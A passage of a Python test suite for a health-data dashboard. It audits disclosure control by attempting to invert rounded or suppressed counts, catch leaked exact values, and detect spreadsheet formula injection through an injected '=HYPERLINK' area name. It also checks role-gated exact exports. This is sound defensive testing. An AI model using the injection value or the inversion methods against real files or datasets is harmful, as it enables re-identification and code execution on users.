            ep = m["people_x"].to_numpy(float)
            found["inverted"] += int(((ep != people) & (np.abs(t * 12 / window - ep) < 1e-6) & (cnt == "pre")).sum())
    if "case_change_pp" in m:
        cases = pd.to_numeric(m["did_cases"], errors="coerce").to_numpy(float)
        ec = m["did_cases_x"].to_numpy(float)
        v = pd.to_numeric(m["case_change_pp"], errors="coerce").to_numpy(float)
        hits, which = np.zeros(len(m), int), np.full(len(m), np.nan)
        for off in range(-2, 3):
            d = cases + off
            ok = (d > 0) & (np.abs(np.round(v * d) - v * d) <= _tol(v) * d) & ~np.isnan(v) & (v != 0)
            hits += ok
            which = np.where(ok, d, which)
        found["inverted"] += int(((ec != cases) & (ec > 0) & (hits == 1) & (which == ec)).sum())
    return found


def test_cli_prepost(world: World, tmp_path: Path) -> None:
    found: Counter = Counter()
    for cohort, window in world.prepost_exact:
        exact = world.prepost_exact[(cohort, window)]
        if exact.empty:
            continue
        tidy, plan = tmp_path / f"{cohort}-tidy.csv", tmp_path / f"{cohort}-plan.csv"
        for path, layout in ((tidy, "tidy"), (plan, "plan")):
            done = _cli(world, "prepost", "--out", str(path), "--cohort", cohort, "--layout", layout,
                        "--window-months", str(window))
            assert done.exit_code == 0, done.output
        found.update(_audit_prepost(pd.read_csv(tidy, na_values=["[c]"]), exact, window))
        numbers = pd.read_csv(plan, na_values=["[c]"]).iloc[:, 2:].apply(pd.to_numeric, errors="coerce").stack().dropna()
        found["small"] += int(numbers.between(1, 7).sum())
        found["unrounded"] += int((numbers % 5 != 0).sum())
    _report(f"{world.name}: flask prepost", found)


# --------------------------------------------------------------------------- download routes
def _parse(content: bytes, fmt: str) -> pd.DataFrame:
    na = {"keep_default_na": False, "na_values": ["[c]", "[x]", "[z]", ""]}  # "None" is a breakdown label
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", **na)
    return pd.read_excel(io.BytesIO(content), **na)


def _download_keys(frame: pd.DataFrame, period_type: str) -> pd.DataFrame:
    from metrics.dimensions import BREAKDOWN_LABELS, LEVEL_LABELS

    levels = {v: k for k, v in LEVEL_LABELS.items()}
    bds = {v: k for k, v in BREAKDOWN_LABELS.items()}
    out = pd.DataFrame({
        "indicator_id": frame["Indicator id"], "period_type": period_type, "period": frame["Period"].astype(str),
        "geography_level": frame["Level"].map(lambda x: levels.get(x, x)),
        "geography": frame["Area"].astype(str).str.lstrip("'"),
        "breakdown": frame["Breakdown"].map(lambda x: bds.get(x, x)),
        "group": frame["Group"].astype(str).str.replace(r" \(.*\)$", "", regex=True),
    })
    for src, dst in (("Numerator", "numerator"), ("Denominator", "denominator"), ("Value", "value"),
                     ("Lower 95% CI", "lower_ci"), ("Upper 95% CI", "upper_ci")):
        out[dst] = pd.to_numeric(frame[src], errors="coerce")
    return out


def _queries(world: World) -> list[dict[str, str]]:
    from layouts import filters as flt

    locality = next((g for g in flt.GEOGRAPHIES if g != "BSol" and g in set(world.tree["locality"])), "East")
    return [{}, {"breakdown": "ethnicity"}, {"locality": locality}]


def test_download_routes(world: World) -> None:
    client = world.app.server.test_client()
    found: Counter = Counter()
    exact_set = exact_values(world)
    by_indicator = dict(tuple(world.exact.groupby("indicator_id")))
    for i, ind in enumerate(INDICATORS):  # every indicator; other views and the xlsx for every third
        pt = ind.frequency[0]
        for n, query in enumerate(_queries(world) if i % 3 == 0 else _queries(world)[:1]):
            for fmt in ("csv", "xlsx") if n == 0 and i % 3 == 0 else ("csv",):
                resp = client.get(f"/download/measure/{ind.id}.{fmt}", query_string={**query, "period_type": pt})
                if resp.status_code == 404:
                    continue
                assert resp.status_code == 200, (ind.id, query, resp.status_code)
                frame = _parse(resp.data, fmt)
                found.update(audit_results(_download_keys(frame, pt), by_indicator.get(ind.id, world.exact.iloc[:0]),
                                           KEY))
                found["exact-value"] += leaked_values(
                    frame.select_dtypes("number").to_numpy(float).ravel().tolist(), exact_set)
    for cohort, window in world.prepost_exact:
        exact = world.prepost_exact[(cohort, window)]
        if exact.empty:
            continue
        for fmt in ("csv", "xlsx"):
            resp = client.get(f"/download/prepost.{fmt}", query_string={"cohort": cohort, "window": str(window)})
            assert resp.status_code in (200, 404)
            if resp.status_code == 200 and fmt == "xlsx":
                for sheet in pd.read_excel(io.BytesIO(resp.data), sheet_name=None, na_values=["[c]"]).values():
                    found["exact-value"] += leaked_values(
                        sheet.select_dtypes("number").to_numpy(float).ravel().tolist(), exact_set)
                    if "people" in sheet and "int_team_code" in sheet:
                        found.update(_audit_prepost(sheet, exact, window))
    _report(f"{world.name}: download routes", found)


# --------------------------------------------------------------------------- page callbacks
# Every page's callbacks are called through the app's own route (POST /_dash-update-component, as
# the browser's renderer does), as a viewer and as an analyst. Each chart point (trace x/y, text,
# customdata, error bars) and each table cell is matched BY KEY (indicator, period, level, area,
# breakdown group) to its stored cell, then checked as the downloads are (audit_results).
ROLE_LINES = ("lines",)  # SPC mean/limits, targets, funnel limits: not one cell each (checked apart)
COUNT_HEADERS = re.compile(r"numerator|denominator|people|patients|caseload\b|^count|^rows$|^n$|events", re.I)
# "Patients needed to reach the target" is not a count of anyone: it is ceil(target x denominator -
# numerator) from the row's own SHOWN (rounded) counts (metrics.results.patients_to_target, known
# answers in tests/test_to_target.py), so it reveals nothing the row does not.
NOT_COUNT_HEADERS = re.compile(r"year|%|share|per |rate|ratio|value|index|needed", re.I)
ROLE_OF_HEADER = {"numerator": "numerator", "denominator": "denominator", "value": "value",
                  "lower 95% ci": "lower_ci", "upper 95% ci": "upper_ci"}
NUMBER = re.compile(r"[-+]?\d[\d,]*(?:\.\d+)?")
PERIOD_TEXT = re.compile(r"\d{4}-\d{2}.*")


def _norm(text: object) -> str:
    """A label as a key token: trimmed, no safe-writer quote, no '(provisional)'-style note, lower case."""
    out = str(text).strip().lstrip("'")
    out = re.sub(r"\s*\((?:to date|provisional|most deprived|least deprived)[^)]*\)$", "", out, flags=re.I)
    return out.strip().lower()


def _decode(value: Any) -> Any:
    """Plotly 6+ sends numeric arrays typed ({"dtype": "f8", "bdata": base64}): decode them."""
    import base64

    if isinstance(value, dict) and "bdata" in value and "dtype" in value:
        arr = np.frombuffer(base64.b64decode(value["bdata"]), dtype=np.dtype(value["dtype"]))
        return arr.reshape(value["shape"]) .tolist() if "shape" in value and isinstance(value["shape"], list) \
            else arr.tolist()
    return value


@dataclass
class KeyIndex:
    """Stored cells by the label tokens a page can show for them (period, area, group, indicator title)."""

    frame: pd.DataFrame
    by_token: dict[str, np.ndarray] = field(default_factory=dict)  # sorted row numbers per token
    codes: dict[str, np.ndarray] = field(default_factory=dict)  # key columns as integer codes (fast ==)
    code_of: dict[str, dict[Any, int]] = field(default_factory=dict)  # each key column's value -> its code
    by_indicator: dict[tuple[str, str], np.ndarray] = field(default_factory=dict)  # (indicator, period type)

    KEY_COLUMNS = ("indicator_id", "period_type", "geography", "geography_level", "breakdown", "period")

    @classmethod
    def build(cls, exact: pd.DataFrame) -> KeyIndex:
        from layouts import filters as flt
        from metrics.dimensions import BREAKDOWN_LABELS

        frame = exact.reset_index(drop=True)
        tokens: dict[str, list[np.ndarray]] = {}
        titles = {i.id: i.title for i in INDICATORS}
        columns = {
            "period": frame["period"], "geography": frame["geography"],
            "geo_label": frame["geography"].map(lambda g: flt.GEOGRAPHY_LABELS.get(g, g)),
            "group": frame["group"].where(frame["breakdown"] != "none", "\0"),
            "breakdown": frame["breakdown"].map(lambda b: BREAKDOWN_LABELS.get(b, b)).where(frame["breakdown"] != "none", "\0"),
            "indicator": frame["indicator_id"], "title": frame["indicator_id"].map(titles),
        }
        for values in columns.values():
            text = values.astype(str)
            normed = text.map({u: _norm(u) for u in text.unique()})  # each distinct label once
            for key, idx in normed.groupby(normed).indices.items():
                tokens.setdefault(key, []).append(idx)
        codes, code_of = {}, {}
        for c in cls.KEY_COLUMNS:  # missing values get -1, which no wanted value's code is
            codes[c], uniques = pd.factorize(frame[c].to_numpy(dtype=object))
            code_of[c] = {u: i for i, u in enumerate(uniques)}
        groups = frame.groupby(["indicator_id", "period_type"]).indices
        return cls(frame, {k: np.unique(np.concatenate(v)) for k, v in tokens.items()}, codes, code_of,
                   {k: np.asarray(v) for k, v in groups.items()})

    def _equal(self, col: str, pool: np.ndarray, want: Any) -> np.ndarray:
        """The rows of `pool` whose `col` is `want`, compared as integer codes: the page walks ask
        thousands of times, and object-array == over every stored row was most of their own time."""
        return pool[self.codes[col][pool] == self.code_of[col].get(want, -2)]

    @staticmethod
    def _within(pool: np.ndarray, rows: np.ndarray) -> np.ndarray:
        """The rows of `pool` that are in `rows` (sorted): a binary search per pooled row."""
        if not len(rows):
            return pool[:0]
        at = np.minimum(np.searchsorted(rows, pool), len(rows) - 1)
        return pool[rows[at] == pool]

    def match(self, labels: list[Any], ctx: dict[str, Any]) -> int | None:
        """The one stored cell these labels and the page's context name (None: none or ambiguous)."""
        if ctx.get("indicator_id") and ctx.get("period_type"):
            pool = self.by_indicator.get((ctx["indicator_id"], ctx["period_type"]), np.arange(0))
        else:
            pool = np.arange(len(self.frame))
            for col in ("indicator_id", "period_type"):
                if ctx.get(col):
                    pool = self._equal(col, pool, ctx[col])
        known = [t for t in dict.fromkeys(_norm(x) for x in labels if isinstance(x, str)) if t in self.by_token]
        for t in known:
            narrower = self._within(pool, self.by_token[t])
            if len(narrower):
                pool = narrower
        if not known:
            return None
        for col, want in (("geography", ctx.get("geography")), ("geography_level", ctx.get("level")),
                          ("breakdown", ctx.get("breakdown")), ("breakdown", "none"), ("period", ctx.get("period"))):
            if len(pool) > 1 and want:
                narrower = self._equal(col, pool, want)
                if len(narrower):
                    pool = narrower
        return int(pool[0]) if len(pool) == 1 else None


def _children(node: dict, kind: str) -> list[dict]:
    return list(components(node.get("props", {}).get("children"), kind))


def _numbers_in(text: str) -> list[float]:
    """The numbers of a numeric cell ("1,235", "12.3%", "12.3 (10.1 to 14.5)"); [] for a label cell."""
    if PERIOD_TEXT.fullmatch(text.strip()) or not re.fullmatch(r"[\d.]+", re.sub(r"[^\w.]|to|_", "", text) or "x"):
        return []
    return [float(n.replace(",", "")) for n in NUMBER.findall(text.replace("\u2212", "-"))]


def chart_points(payload: Any) -> Iterator[tuple[list[Any], dict[str, float]]]:
    """(labels, {value, lower_ci, upper_ci}) of every data point of every figure in a response."""
    for fig in figures(payload):
        for tr in fig["data"]:
            if tr.get("mode") in ROLE_LINES:
                continue
            horizontal = tr.get("orientation") == "h"
            vals = _decode(tr.get("x" if horizontal else "y")) or []
            cats = _decode(tr.get("y" if horizontal else "x")) or []
            err = tr.get("error_x" if horizontal else "error_y") or {}
            up, down = _decode(err.get("array")), _decode(err.get("arrayminus", err.get("array")))
            text, custom = _decode(tr.get("text")), _decode(tr.get("customdata"))
            for i, v in enumerate(vals):
                if not isinstance(v, int | float) or isinstance(v, bool) or not math.isfinite(v):
                    continue
                labels = [cats[i] if i < len(cats) else None, tr.get("name")]
                for extra in (text, custom):
                    if isinstance(extra, list) and i < len(extra):
                        labels += extra[i] if isinstance(extra[i], list) else [extra[i]]
                point = {"value": float(v)}
                if up and down and i < len(up) and err.get("visible", True):
                    point["upper_ci"], point["lower_ci"] = v + float(up[i]), v - float(down[i])
                yield labels, point


def spc_lines(payload: Any) -> int:
    """SPC centre lines not explained by the chart's own shown points (README: lines come from the
    controlled values, hidden points excluded): each segment's Mean must be the mean of the points
    shown on it, at the line's shown precision. A line from exact values, or one that counts a hidden
    point, gives exact values back (mean x n = the exact total) and is counted here."""
    bad = 0
    for fig in figures(payload):
        traces = fig["data"]
        points: dict[Any, float] = {}
        for tr in traces:
            if tr.get("mode") == "markers" and tr.get("type", "scatter") == "scatter":
                for x, y in zip(_decode(tr.get("x")) or [], _decode(tr.get("y")) or [], strict=False):
                    if isinstance(y, int | float) and math.isfinite(y):
                        points[x] = float(y)
        for tr in traces:
            if tr.get("mode") != "lines" or tr.get("name") != "Mean":
                continue
            xs, ys = _decode(tr.get("x")) or [], _decode(tr.get("y")) or []
            shown = [points[x] for x in xs if x in points]
            line = next((float(y) for y in ys if isinstance(y, int | float) and math.isfinite(y)), None)
            if not shown or line is None:
                continue
            bad += int(abs(float(np.mean(shown)) - line) > _tol(np.array([line]))[0] + 1e-9)
    return bad


def table_cells(payload: Any) -> Iterator[tuple[str, list[str], list[tuple[str, str]]]]:
    """(caption, header texts, [(header, cell text)] per row) of every HTML table in a response."""
    for table in components(payload, "Table"):
        caption = " ".join(shown_text(c) for c in _children(table, "Caption"))
        head = [shown_text(th) for thead in _children(table, "Thead") for th in _children(thead, "Th")]
        for tbody in _children(table, "Tbody"):
            for tr in _children(tbody, "Tr"):
                cells = [c for c in tr.get("props", {}).get("children") or [] if isinstance(c, dict)]
                yield caption, head, [(head[j] if j < len(head) else "", shown_text(c)) for j, c in enumerate(cells)]


def audit_page(payload: Any, ctx: dict[str, Any], index: KeyIndex, shown_counts: pd.DataFrame) -> tuple[Counter, int]:
    """Every check on one callback response; returns (findings, cells matched by key).

    Chart points carry no counts: the counts an adversary knows for the cell are the ones shown
    everywhere else (the disclosure-controlled counts), so a value that gives back a rounded or
    hidden count is found by the same inversion as in the downloads. Table cells bring their own.
    """
    found: Counter = Counter()
    found["spc-line-from-hidden-or-exact (chart)"] += spc_lines(payload)
    rows: list[dict[str, Any]] = []
    for labels, point in chart_points(payload):
        k = index.match(labels, ctx)
        if k is not None:
            rows.append({"_k": k, "_src": "chart", **point})
    for caption, _head, cells in table_cells(payload):
        labels = [text for _h, text in cells if not _numbers_in(text)] + [caption]
        keyed: dict[str, float] = {}
        for h, text in cells:
            role = ROLE_OF_HEADER.get(h.strip().lower())
            nums = _numbers_in(text)
            if COUNT_HEADERS.search(h) and not NOT_COUNT_HEADERS.search(h) and nums and role is None:
                v = nums[0]  # a count column of a table that is not a results table (pre/post, profile, Data page)
                found["small (table)"] += int(1 <= v <= 7)
                found["unrounded (table)"] += int(v % 5 != 0)
            if role and nums:
                keyed[role] = nums[0]
            elif role and text.strip() == "[c]":
                keyed[role] = np.nan
        if keyed:
            k = index.match(labels, ctx)
            if k is not None:
                rows.append({"_k": k, "_src": "table", **keyed})
        else:  # a grid (areas across, indicators down) or the scorecard: each value cell keyed by its header
            for h, text in cells:
                nums = _numbers_in(text)
                if not nums or not h:
                    continue
                k = index.match([*labels, h], ctx)
                if k is None or _norm(h) not in {_norm(index.frame.at[k, c]) for c in ("geography", "group")} \
                        and "value" not in h.lower():
                    continue
                point = {"value": nums[0]}
                if len(nums) >= 3 and "ci" in h.lower():
                    point["lower_ci"], point["upper_ci"] = nums[1], nums[2]
                rows.append({"_k": k, "_src": "table", **point})
    if not rows:
        return found, 0
    got = pd.DataFrame(rows)
    base = shown_counts.iloc[got["_k"].to_numpy()].reset_index(drop=True)
    for src, part in got.groupby("_src"):
        sub = base.loc[part.index, [*KEY, "numerator", "denominator"]].copy()
        for col in ("numerator", "denominator", "value", "lower_ci", "upper_ci"):
            if col in part:
                have = part[col].notna() | (src == "table")
                sub[col] = np.where(have, part[col], sub[col]) if col in sub else part[col].to_numpy()
            elif col not in sub:
                sub[col] = np.nan
        ex = index.frame.iloc[part["_k"].to_numpy()].reset_index(drop=True)
        sub = sub.reset_index(drop=True)
        for name, n in audit_results(sub, ex.drop_duplicates(KEY), KEY).items():
            found[f"{name} ({src})"] += n
        # Keyed exact values: the cell's own exact value (or limit), where its count was rounded or hidden.
        known = base.loc[part.index]
        changed = ex["num_disclosive"].fillna(True) & (ex["numerator"] > 0) & (ex["numerator"] != known[
            "numerator"].to_numpy())
        moves = _rounding_moves_value(known["numerator"], ex["numerator"], known["denominator"], ex["denominator"])
        for c in ("value", "lower_ci", "upper_ci"):
            if c in sub:
                same = np.isclose(sub[c].astype(float), ex[c].astype(float), rtol=1e-9, atol=0) \
                    & ~ex[c].astype(float).apply(float.is_integer) & (_decimals(sub[c].to_numpy(float)) >= 4)
                found[f"exact-value ({src})"] += int((changed & same & (moves if c == "value" else True)).sum())
    return found, int(len(got))


@dataclass
class Pages:
    """Calls page callbacks as the browser does, through POST /_dash-update-component."""

    world: World
    client: Any

    def call(self, output: str, values: dict[str, Any], concrete: dict[str, str] | None = None,
             changed: str | None = None) -> Any:
        from layouts import ids

        app = self.world.app.app
        key = next(k for k in app.callback_map if output in k)
        spec = app.callback_map[key]

        def concrete_id(raw: str) -> Any:
            cid = json.loads(raw) if raw.startswith("{") else raw
            if isinstance(cid, dict):
                cid = {k: (concrete or {}).get(k, v) if v == ["MATCH"] else v for k, v in cid.items()}
            return cid

        def value(cid: Any, prop: str) -> Any:
            if isinstance(cid, dict):
                if cid.get("type") == ids.FILTER:
                    return values.get(cid["name"])
                return {ids.TABLE_OPEN: 1, ids.TABLE_PREV: 0, ids.TABLE_NEXT: 0}.get(cid.get("type"))
            return {ids.MEASURE_ID: values.get("indicator"), ids.MEASURE_VIEW: values.get("view"),
                    ids.URL: values.get("pathname"), ids.MEASURE_BELOW_TRIGGER: 1}.get(cid)

        def item(dep: dict[str, Any]) -> dict[str, Any]:
            cid = concrete_id(dep["id"])
            return {"id": cid, "property": dep["property"], "value": value(cid, dep["property"])}

        parts = key[2:-2].split("...") if key.startswith("..") else [key]
        outs = [{"id": concrete_id(o.rsplit(".", 1)[0]), "property": o.rsplit(".", 1)[1]} for o in parts]
        body = {"output": key, "outputs": outs if key.startswith("..") else outs[0],
                "inputs": [item(d) for d in spec["inputs"]], "state": [item(d) for d in spec.get("state", [])],
                "changedPropIds": [changed] if changed else []}
        resp = self.client.post("/_dash-update-component", json=body)
        if resp.status_code == 204:  # PreventUpdate / no_update
            return {}
        assert resp.status_code == 200, (output, values, resp.status_code, resp.get_data(as_text=True)[:300])
        return resp.json["response"]


def page_calls(world: World, role: str) -> Iterator[tuple[str, dict[str, Any], Any]]:
    """(where, key context, response) for every page's callbacks; a viewer walks a lighter tour."""
    from layouts import filters as flt
    from layouts import ids, views

    client = world.app.server.test_client()
    pages = Pages(world, client)
    geos = [g for g in flt.GEOGRAPHIES if g == "BSol" or g in set(world.tree["locality"])][:3 if role == "analyst" else 2]
    for geo in geos:
        level = "bsol" if geo == "BSol" else "locality"
        for pt in ("month", "quarter", "financial_year") if role == "analyst" else ("quarter",):
            ctx = {"period_type": pt, "geography": geo, "level": level}
            yield f"scorecard {geo} {pt}", ctx, pages.call(f"{ids.HOME_CONTENT}.children",
                                                           {"locality": geo, "period_type": pt})
        yield f"locality {geo}", {"period_type": "quarter", "level": "locality" if geo == "BSol" else "neighbourhood"}, \
            pages.call(f"{ids.LOCALITY_CONTENT}.children", {"locality": geo, "period_type": "quarter"})
        yield f"inequalities {geo}", {"period_type": "quarter", "geography": geo, "level": level}, \
            pages.call(f"{ids.INEQ_CONTENT}.children", {"locality": geo, "period_type": "quarter"})
    # The analyst walks every indicator on the small tricky dataset; on the demo (CI's time budget)
    # each role walks its own half of them, so together they cover every one, none twice.
    tour = INDICATORS if role == "analyst" and world.name != "demo" else INDICATORS[(role == "analyst")::2]
    for n, ind in enumerate(tour):
        pt = ind.frequency[0]
        views_ = [("BSol", ("ethnicity", "imd_quintile")[n % 2])] + ([(geos[-1], "sex")] if n % 3 == 0 else [])
        for geo, bd in views_:
            level = "bsol" if geo == "BSol" else "locality"
            ctx = {"indicator_id": ind.id, "period_type": pt, "geography": geo, "level": level, "breakdown": bd}
            filters = {"locality": geo, "period_type": pt, "period": "latest", "breakdown": bd, "indicator": ind.id}
            first = pages.call(f"{ids.MEASURE_CONTENT}.children", filters)
            yield f"measure {ind.id} {geo} {bd}", ctx, first
            view = (first.get(ids.MEASURE_VIEW) or {}).get("data")
            if not view:
                continue
            ctx = {**ctx, "period": view["period"]}
            yield f"measure below {ind.id} {geo}", ctx, pages.call(f"{ids.MEASURE_BELOW}.children",
                                                                   {**filters, "view": view})
            for section in [*views.SECTIONS, "all"]:
                opened = ids.table_id(ids.TABLE_OPEN, section, view["period"])
                got = pages.call(ids.TABLE_BODY, {**filters, "view": view},
                                 concrete={"section": section, "period": view["period"]},
                                 changed=json.dumps(opened, sort_keys=True, separators=(",", ":")) + ".n_clicks")
                yield f"measure table {ind.id} {geo} {section}", ctx, got
    yield "data page", {}, pages.call(f"{ids.DATA_CONTENT}.children", {"pathname": "/data"})
    for cohort in ("pilot", "all"):
        sel = {"locality": "BSol", "team": None, "cohort": cohort, "window": "6"}
        yield f"prepost {cohort}", {}, pages.call(f"{ids.PREPOST_CONTENT}.children", sel)
        yield f"profile {cohort}", {}, pages.call(f"{ids.PREPOST_PROFILE}.children", sel)


_AUDIT_INPUTS: dict[str, tuple[set[str], KeyIndex]] = {}


def walk_pages(world: World, role: str, shown_counts: pd.DataFrame,
               limit: int | None = None) -> tuple[Counter, int, int]:
    """(findings, responses, cells matched by key) over every page callback as `role` (the first `limit`)."""
    import dataclasses
    import itertools

    server = world.app.server
    auth = server.config["BSOL_AUTH"]
    if world.url not in _AUDIT_INPUTS:  # the adversary's side knowledge, worked out once per dataset
        _AUDIT_INPUTS[world.url] = exact_values(world), KeyIndex.build(world.exact)
    exact_set, index = _AUDIT_INPUTS[world.url]
    found: Counter = Counter()
    walked = keyed = 0
    with pytest.MonkeyPatch.context() as mp:
        mp.setitem(server.config, "BSOL_AUTH", dataclasses.replace(auth, default_role=role))
        for where, ctx, payload in itertools.islice(page_calls(world, role), limit):
            walked += 1
            got, n = audit_page(payload, ctx, index, shown_counts)
            keyed += n
            for k, v in got.items():
                found[f"{k} [{where.split()[0]}]"] += v
            n = leaked_values(_numbers(_decode_all(payload)), exact_set)
            if n:
                found[f"exact-value [{where.split()[0]}]"] += n
    return found, walked, keyed


def _decode_all(obj: Any) -> Any:
    if isinstance(obj, dict):
        if "bdata" in obj and "dtype" in obj:
            return [float(x) for x in _decode(obj)]
        return {k: _decode_all(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_decode_all(v) for v in obj]
    return obj


@pytest.fixture(scope="module")
def shown_counts(world: World) -> pd.DataFrame:
    """The counts every output shows for each stored cell (the adversary's side knowledge), row for row."""
    from metrics.results import for_display

    return for_display(world.exact.drop(columns=["multiplier", "aggregation", "ci", "num_disclosive",
                                                 "den_disclosive"])).reset_index(drop=True)


@pytest.mark.parametrize("role", ["viewer", "analyst"])
def test_page_callbacks(world: World, role: str, shown_counts: pd.DataFrame) -> None:
    # Every page's callbacks: scorecards, locality, inequalities, every measure page (its first screen,
    # the sections below, every table behind a chart), the Data page and the pre/post page.
    found, walked, keyed = walk_pages(world, role, shown_counts)
    assert walked > (50 if role == "analyst" and world.name != "demo" else 15)
    assert keyed > walked, f"only {keyed} chart points and table cells matched to stored cells by key"
    _report(f"{world.name}: page callbacks as {role} (keyed chart JSON and tables)", found)


def test_the_page_adversary_catches_a_planted_leak(world: World, shown_counts: pd.DataFrame,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """The detector is tested too: pages served from exact (unprotected) results must be caught."""
    if world.name != "demo":
        pytest.skip("one dataset is enough to prove the detector")
    from caching import clear_caches
    from metrics import results

    monkeypatch.setattr(results, "for_display", lambda frame, rule=None: frame.assign(suppressed=False))
    clear_caches()
    try:
        found, _walked, _keyed = walk_pages(world, "viewer", shown_counts, limit=24)  # scorecards to measure pages
    finally:
        clear_caches()
    kinds = {k.split(" [")[0] for k, v in found.items() if v}
    assert any("(chart)" in k and k.split()[0] in ("inverted", "hidden-derived", "exact-value") for k in kinds), kinds
    assert any("(table)" in k and k.split()[0] in ("small", "unrounded") for k in kinds), kinds


# --------------------------------------------------------------------------- packs
def test_pack_sheets(world: World) -> None:
    from data_loaders.db import read_engine
    from exports import pack

    exact_set = exact_values(world)
    found: Counter = Counter()
    for place in pack.PLACES:
        with read_engine(world.url).connect() as conn:
            wb = load_workbook(io.BytesIO(pack.build_pack(conn, place, None)))
        for ws in wb.worksheets:
            found["exact-value"] += leaked_values((c.value for row in ws.iter_rows() for c in row
                                                   if isinstance(c.value, float)), exact_set)
            for table in ws.tables.values():
                cells = [[c.value for c in row] for row in ws[table.ref]]
                head = [str(h or "") for h in cells[0]]
                ids = [r[head.index("Indicator id")] for r in cells[1:]] if "Indicator id" in head else None
                for j, h in enumerate(head):
                    if re.search(r"numerator|denominator|people|patients affected|caseload\b|^count", h, re.I) \
                            and not re.search(r"year|%|share|per ", h, re.I):
                        v = pd.to_numeric(pd.Series([r[j] for r in cells[1:]]), errors="coerce")
                        if ids is not None:  # person-years, FTE, expected and published totals are not counts
                            flag = "numerator_disclosive" if h.startswith("Numerator") else "denominator_disclosive"
                            v = v.where([getattr(INDICATORS_BY_ID.get(str(i)), flag, True) for i in ids])
                        found["small"] += int(v.between(1, 7).sum())
                        found["unrounded"] += int((v.notna() & (v % 5 != 0)).sum())
    _report(f"{world.name}: packs", found)


# --------------------------------------------------------------------------- files cannot run code
def _live_formulas_xlsx(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.lstrip().startswith(FORMULA)):
                    bad.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    return bad


def _live_formulas_csv(content: bytes) -> list[str]:
    bad = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for cell in row:
            text = cell.lstrip()
            if text.startswith(FORMULA):
                try:
                    float(text)
                except ValueError:
                    bad.append(cell)
    return bad


def test_no_live_formula_in_any_file(world: World, tmp_path: Path) -> None:
    if world.name != "tricky":
        pytest.skip("the formula-like names are in the tricky dataset")
    from data_loaders.db import read_engine
    from exports import pack

    client = world.app.server.test_client()
    produced: dict[str, bytes] = {}
    for i, ind in enumerate(INDICATORS):  # East lists its neighbourhood (named like a formula)
        for fmt in ("csv", "xlsx") if i % 3 == 0 else ("csv",):
            r = client.get(f"/download/measure/{ind.id}.{fmt}", query_string={"locality": "East"})
            if r.status_code == 200:
                produced[f"measure {ind.id} East .{fmt}"] = r.data
    for fmt in ("csv", "xlsx"):
        r = client.get(f"/download/prepost.{fmt}", query_string={"cohort": "all"})
        if r.status_code == 200:
            produced[f"prepost.{fmt}"] = r.data
    for place in pack.PLACES:
        with read_engine(world.url).connect() as conn:
            produced[f"pack {place}.xlsx"] = pack.build_pack(conn, place, None)
    for name, args in (("measures.csv", ["measures"]), ("prepost-plan.csv", ["prepost", "--cohort", "all"]),
                       ("prepost-tidy.csv", ["prepost", "--cohort", "all", "--layout", "tidy"])):
        out = tmp_path / name
        done = _cli(world, *args, "--out", str(out))
        assert done.exit_code in (0, 1), done.output  # 1: no one eligible for that cohort (no file)
        if done.exit_code == 0:
            produced[name] = out.read_bytes()
    bad = {name: (_live_formulas_xlsx(b) if name.endswith("xlsx") else _live_formulas_csv(b))
           for name, b in produced.items()}
    bad = {k: v[:3] for k, v in bad.items() if v}
    assert not bad, f"live formulas in produced files: {bad}"
    text = " ".join(str(c.value) for name, b in produced.items() if name.endswith("xlsx")
                    for ws in load_workbook(io.BytesIO(b)).worksheets for row in ws.iter_rows() for c in row)
    text += b"".join(b for name, b in produced.items() if name.endswith("csv")).decode("utf-8", "replace")
    assert "'=HYPERLINK" in text, "the injected neighbourhood name must reach the files, neutralised"


# --------------------------------------------------------------------------- exact values: data managers only
def test_exact_exports_for_data_managers_only(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    import dataclasses

    from auth import AUDIT_URL_KEY
    from data_loaders.audit import read_audit

    ind = INDICATORS_BY_ID["m02_caseload_emergency_admissions"]
    server = world.app.server
    client = server.test_client()
    auth = server.config["BSOL_AUTH"]
    for role in ("viewer", "analyst"):
        monkeypatch.setitem(server.config, "BSOL_AUTH", dataclasses.replace(auth, default_role=role))
        assert client.get(f"/download/measure/{ind.id}.csv", query_string={"exact": "1"}).status_code == 403
    monkeypatch.setitem(server.config, "BSOL_AUTH", dataclasses.replace(auth, default_role="data_manager"))
    resp = client.get(f"/download/measure/{ind.id}.csv", query_string={"exact": "1", "period_type": "quarter"})
    assert resp.status_code == 200
    frame = _download_keys(_parse(resp.data, "csv"), "quarter")
    m = frame.merge(world.exact, on=KEY, suffixes=("", "_x"))
    assert len(m) and (m["numerator"] == m["numerator_x"]).all()  # exact, unrounded
    records = read_audit(server.config[AUDIT_URL_KEY], action="export_exact")
    assert len(records) and ind.id in records["detail"].iloc[0]
    assert records["role"].iloc[0] == "data_manager"


def test_cli_exact_needs_a_data_manager_identity(world: World, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Shell access is not data-manager access: --exact needs a data_manager account or BSOL_CLI_ROLE."""
    if world.name != "tricky":
        pytest.skip("one dataset is enough for the role check")
    from data_loaders.accounts import add_user
    from data_loaders.audit import read_audit
    from data_loaders.settings import load_settings

    audit_url = load_settings().audit_url
    password = "correct horse battery staple"
    for user, role in (("cli.analyst", "analyst"), ("cli.manager", "data_manager")):
        add_user(audit_url, user, password, role)
    monkeypatch.delenv("BSOL_CLI_ROLE", raising=False)
    out = tmp_path / "exact.csv"
    refused = [
        ("measures", "--out", str(out), "--exact"),
        ("measures", "--out", str(out), "--exact", "--as", "cli.analyst", "--password-stdin"),
        ("prepost", "--out", str(out), "--cohort", "all", "--exact", "--as", "cli.manager", "--password-stdin"),
    ]
    for args, stdin in zip(refused, ("", password, "wrong password!!"), strict=True):
        done = world.app.server.test_cli_runner().invoke(args=list(args), input=stdin + "\n")
        assert done.exit_code == 2, (args, done.output)
        assert "for data managers" in done.output and "BSOL_CLI_ROLE" in done.output
        assert not out.exists()
    log = read_audit(audit_url, action="export_exact_refused")
    assert len(log) >= 3 and {"cli.analyst", "cli.manager"} <= {json.loads(d).get("as") for d in log["detail"]}
    done = world.app.server.test_cli_runner().invoke(
